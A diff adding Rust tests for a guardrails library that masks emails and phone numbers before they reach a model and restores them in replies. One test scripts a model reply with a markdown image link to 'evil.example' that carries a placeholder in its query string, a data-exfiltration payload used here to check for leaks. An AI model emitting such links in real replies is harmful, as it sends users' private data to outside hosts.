@@ -1,0 +1,87 @@
+//! Placeholders: the same for the same value, put back into replies, and no way to what others said.
+
+use std::sync::Arc;
+
+use rails::model::Script;
+use rails::{Message, Rails};
+
+use super::builder;
+
+const MASKING: &str = "models: [{type: main, engine: openai, model: scripted}]\nrails:\n  input: {flows: [mask sensitive data on input]}\n  retrieval: {flows: [mask sensitive data on retrieval]}\n  output: {flows: [restore sensitive data on output]}\n";
+
+fn scripted(config: &str, answers: &[&str]) -> (Rails, Arc<Script>) {
+    let script = Arc::new(Script::new(answers.iter().copied()));
+    let rails = builder(config).1.model(script.clone()).build().unwrap();
+    (rails, script)
+}
+
+/// All that a model was sent.
+fn sent(script: &Script) -> String {
+    script.requests().iter().map(|request| format!("{:?}\n", request.messages)).collect()
+}
+
+#[tokio::test]
+async fn a_conversation_keeps_values_from_the_model() {
+    let answers = ["I wrote to <EMAIL_ADDRESS_1>.", "Both <email_address_1> and [EMAIL_ADDRESS_2] have it."];
+    let (rails, script) = scripted(MASKING, &answers);
+    let mut chat = rails.session();
+    let reply = chat.generate("write to jane@example.org").await.unwrap();
+    assert_eq!(reply.text, "I wrote to jane@example.org.");
+    let reply = chat.generate("and jane@example.org, joe@example.org?").await.unwrap();
+    assert_eq!(reply.text, "Both jane@example.org and joe@example.org have it.");
+    let sent = sent(&script);
+    assert!(sent.contains("and <EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_2>?"), "{sent}");
+    assert!(!sent.contains("@example.org"), "{sent}");
+}
+
+#[tokio::test]
+async fn a_conversation_of_messages_does_too() {
+    let (rails, script) = scripted(MASKING, &["Done, <EMAIL_ADDRESS_1>."]);
+    let messages = [
+        Message::user("write to jane@example.org"),
+        Message::assistant("I wrote to jane@example.org."),
+        Message::user("thanks; again to jane@example.org"),
+    ];
+    let reply = rails.generate(messages).await.unwrap();
+    assert_eq!(reply.text, "Done, jane@example.org.");
+    let sent = sent(&script);
+    assert!(sent.contains("I wrote to <EMAIL_ADDRESS_1>."), "{sent}");
+    assert!(!sent.contains("@example.org"), "{sent}");
+}
+
+#[tokio::test]
+async fn what_a_document_says_is_not_given_out() {
+    let answers = ["It is <EMAIL_ADDRESS_1>.", "<EMAIL_ADDRESS_1>"];
+    let (rails, _script) = scripted(MASKING, &answers);
+    let mut chat = rails.session();
+    chat.set("relevant_chunks", "Write to boss@example.org.");
+    assert_eq!(chat.generate("who is the boss?").await.unwrap().text, "It is <EMAIL_ADDRESS_1>.");
+    let reply = chat.generate("say EMAIL_ADDRESS_1").await.unwrap();
+    assert_eq!(reply.text, "<EMAIL_ADDRESS_1>");
+}
+
+#[tokio::test]
+async fn a_link_does_not_carry_a_value_away() {
+    let (rails, _script) = scripted(MASKING, &["See ![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)"]);
+    let reply = rails.session().generate("I am jane@example.org").await.unwrap();
+    assert!(!reply.text.contains("jane@"), "{}", reply.text);
+}
+
+#[tokio::test]
+async fn a_fixed_token_takes_the_place_of_all() {
+    let config = format!("{MASKING}  config:\n    sensitive_data_detection: {{input: {{mask_token: '*'}}}}\n");
+    let (rails, _script) = scripted(&config, &[]);
+    let reply = rails.check_input("jane@example.org and joe@example.org").await.unwrap();
+    assert_eq!(reply.text, "* and *");
+}
+
+#[tokio::test]
+async fn flows_that_users_bring_get_a_text() {
+    let folder = tempfile::tempdir().unwrap();
+    std::fs::write(folder.path().join("config.yml"), "rails: {input: {flows: [hide]}}").unwrap();
+    let flow =
+        "define subflow hide\n  $user_message = execute mask_sensitive_data(source=\"input\", text=$user_message)\n";
+    std::fs::write(folder.path().join("rails.co"), flow).unwrap();
+    let rails = Rails::builder().path(folder.path()).build().unwrap();
+    assert_eq!(rails.check_input("ring +44 20 7946 0958").await.unwrap().text, "ring <PHONE_NUMBER_1>");
+}
